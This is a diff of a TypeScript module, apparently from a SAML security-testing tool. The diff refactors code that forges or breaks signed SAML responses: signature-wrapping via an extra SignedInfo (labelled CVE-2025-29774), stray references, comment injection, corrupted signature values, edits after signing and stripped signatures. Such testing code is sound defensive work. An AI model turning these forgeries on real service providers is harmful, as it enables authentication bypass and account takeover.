@@ -14,25 +14,32 @@
  *   tamper-signature-value, edit-after-signing, remove-signatures: the signature no longer covers what is sent
  */
 import type { Document, Element } from '@xmldom/xmldom';
-import { join, readOneOf } from '../../tenant/fields.ts';
+import { join } from '../../tenant/fields.ts';
 import { firstChildNamed, insertAfter } from '../../saml/dom.ts';
 import { DSIG_NS, descendants } from '../../saml/xmldsig.ts';
 import { evaluateValue } from '../values.ts';
-import { notApplied, type NotApplied, type SignedMutation } from './context.ts';
-import { claimIdentity, digestFor, extensionsOf, rewrite, resolveTarget, signedParts, unsignedCopy, type SignedPart } from './document.ts';
-import { onlyParams, readAttributeName, readIdentity, readIdentityOnly, readTarget, readTemplate, type TargetPath } from './params.ts';
+import { NotApplied, notApplied, type SignedMutation } from './context.ts';
+import {
+  claimIdentity,
+  createPrefixedAs,
+  digestFor,
+  extensionsOf,
+  removeSignatures,
+  replaceText,
+  rewrite,
+  setDigestValues,
+  signedParts,
+  targetElement,
+  unsignedCopy,
+  type SignedPart,
+} from './document.ts';
+import { onlyParams, readAttributeName, readChoice, readIdentity, readIdentityOnly, readNoParams, readTarget, readTemplate, type TargetPath } from './params.ts';
 
 /** The signed part these attacks forge: the signed Assertion when there is one (the published templates), else the Response. */
 function attackedPart(document: Document): SignedPart | NotApplied {
   const parts = signedParts(document);
   const part = parts.find((candidate) => candidate.element.localName === 'Assertion') ?? parts[0];
   return part ?? notApplied('nothing in the document is signed');
-}
-
-function setDigest(reference: Element, digest: string): void {
-  const value = descendants(reference, 'DigestValue')[0]!;
-  while (value.firstChild) value.removeChild(value.firstChild);
-  value.appendChild(value.ownerDocument!.createTextNode(digest));
 }
 
 export const EXTRA_SIGNED_INFO_VARIANTS = ['sibling', 'wrapped'] as const;
@@ -43,8 +50,7 @@ export const extraSignedInfoMutation: SignedMutation<{ variant: (typeof EXTRA_SI
   summary: 'CVE-2025-29774: a second SignedInfo naming the forged element (claiming identity) beside the genuine one, or wrapped before it.',
   readParams(raw, path, issues) {
     onlyParams(raw, path, issues, ['variant', 'identity']);
-    const variant = readOneOf(raw, 'variant', path, issues, EXTRA_SIGNED_INFO_VARIANTS);
-    if (raw['variant'] === undefined) issues.add(join(path, 'variant'), `is required (${EXTRA_SIGNED_INFO_VARIANTS.join(', ')})`);
+    const variant = readChoice(raw, 'variant', path, issues, EXTRA_SIGNED_INFO_VARIANTS);
     return { variant: variant ?? 'sibling', identity: readIdentity(raw, path, issues) };
   },
   apply(sent, { variant, identity }) {
@@ -66,7 +72,7 @@ export const extraSignedInfoMutation: SignedMutation<{ variant: (typeof EXTRA_SI
       forgedSignedInfo.appendChild(forgedReference);
       const digest = digestFor(element, signature);
       if (!digest) return notApplied('the signature uses a transform or digest the mutation cannot reproduce');
-      setDigest(forgedReference, digest);
+      setDigestValues(forgedReference, digest);
       if (variant === 'sibling') {
         insertAfter(forgedSignedInfo, genuineSignedInfo);
       } else {
@@ -112,11 +118,11 @@ export const strayReferenceMutation: SignedMutation<{ identity: string }> = {
       const digest = digestFor(element, signature);
       if (!digest) return notApplied('the signature uses a transform or digest the mutation cannot reproduce');
       const stray = descendants(signature, 'Reference')[0]!.cloneNode(true) as Element;
-      setDigest(stray, digest);
+      setDigestValues(stray, digest);
       const root = document.documentElement!;
       if (element === root) {
         // Inside the Response's own Signature (which its digest leaves out), ahead of SignedInfo.
-        const object = document.createElementNS(DSIG_NS, signature.prefix ? `${signature.prefix}:Object` : 'Object');
+        const object = createPrefixedAs(signature, DSIG_NS, 'Object');
         object.appendChild(stray);
         signature.insertBefore(object, signature.firstChild);
       } else {
@@ -153,8 +159,8 @@ export const commentInjectionMutation: SignedMutation<CommentParams> = {
   },
   apply(sent, { target, at }) {
     return rewrite(sent, (document) => {
-      const element = resolveTarget(document, target);
-      if (!element) return notApplied(`no element at ${target.text}`);
+      const element = targetElement(document, target);
+      if (element instanceof NotApplied) return element;
       const text = element.textContent ?? '';
       const position = typeof at === 'number' ? at : text.indexOf(at);
       if (position <= 0 || position >= text.length) return notApplied(`the text of ${target.text} cannot be split there`);
@@ -178,19 +184,12 @@ export const tamperSignatureValueMutation: SignedMutation<Record<string, never>>
   name: 'tamper-signature-value',
   point: 'saml.signed',
   summary: 'Every SignatureValue byte XOR 0x5A: the signatures are there but do not verify.',
-  readParams(raw, path, issues) {
-    onlyParams(raw, path, issues, []);
-    return {};
-  },
+  readParams: readNoParams,
   apply(sent) {
     return rewrite(sent, (document) => {
       const values = descendants(document, 'SignatureValue');
       if (values.length === 0) return notApplied('nothing in the document is signed');
-      for (const value of values) {
-        const corrupted = corruptSignatureValue(value.textContent ?? '');
-        while (value.firstChild) value.removeChild(value.firstChild);
-        value.appendChild(document.createTextNode(corrupted));
-      }
+      for (const value of values) replaceText(value, corruptSignatureValue(value.textContent ?? ''));
       return undefined;
     });
   },
@@ -216,16 +215,14 @@ export const editAfterSigningMutation: SignedMutation<EditParams> = {
   },
   apply(sent, { target, attribute, value }, ctx) {
     return rewrite(sent, (document) => {
-      const element = resolveTarget(document, target);
-      if (!element) return notApplied(`no element at ${target.text}`);
+      const element = targetElement(document, target);
+      if (element instanceof NotApplied) return element;
       if (attribute) {
         const original = element.hasAttribute(attribute) ? element.getAttribute(attribute)! : undefined;
         element.setAttribute(attribute, String(evaluateValue(value, original, ctx.now, 'iso')));
         return undefined;
       }
-      const text = String(evaluateValue(value, element.textContent ?? '', ctx.now, 'iso'));
-      while (element.firstChild) element.removeChild(element.firstChild);
-      element.appendChild(document.createTextNode(text));
+      replaceText(element, String(evaluateValue(value, element.textContent ?? '', ctx.now, 'iso')));
       return undefined;
     });
   },
@@ -235,15 +232,10 @@ export const removeSignaturesMutation: SignedMutation<Record<string, never>> = {
   name: 'remove-signatures',
   point: 'saml.signed',
   summary: 'Strips every ds:Signature (Response and Assertion): the SP gets an unsigned document.',
-  readParams(raw, path, issues) {
-    onlyParams(raw, path, issues, []);
-    return {};
-  },
+  readParams: readNoParams,
   apply(sent) {
     return rewrite(sent, (document) => {
-      const signatures = descendants(document, 'Signature');
-      if (signatures.length === 0) return notApplied('nothing in the document is signed');
-      for (const signature of signatures) signature.parentNode?.removeChild(signature);
+      if (removeSignatures(document) === 0) return notApplied('nothing in the document is signed');
       return undefined;
     });
   },
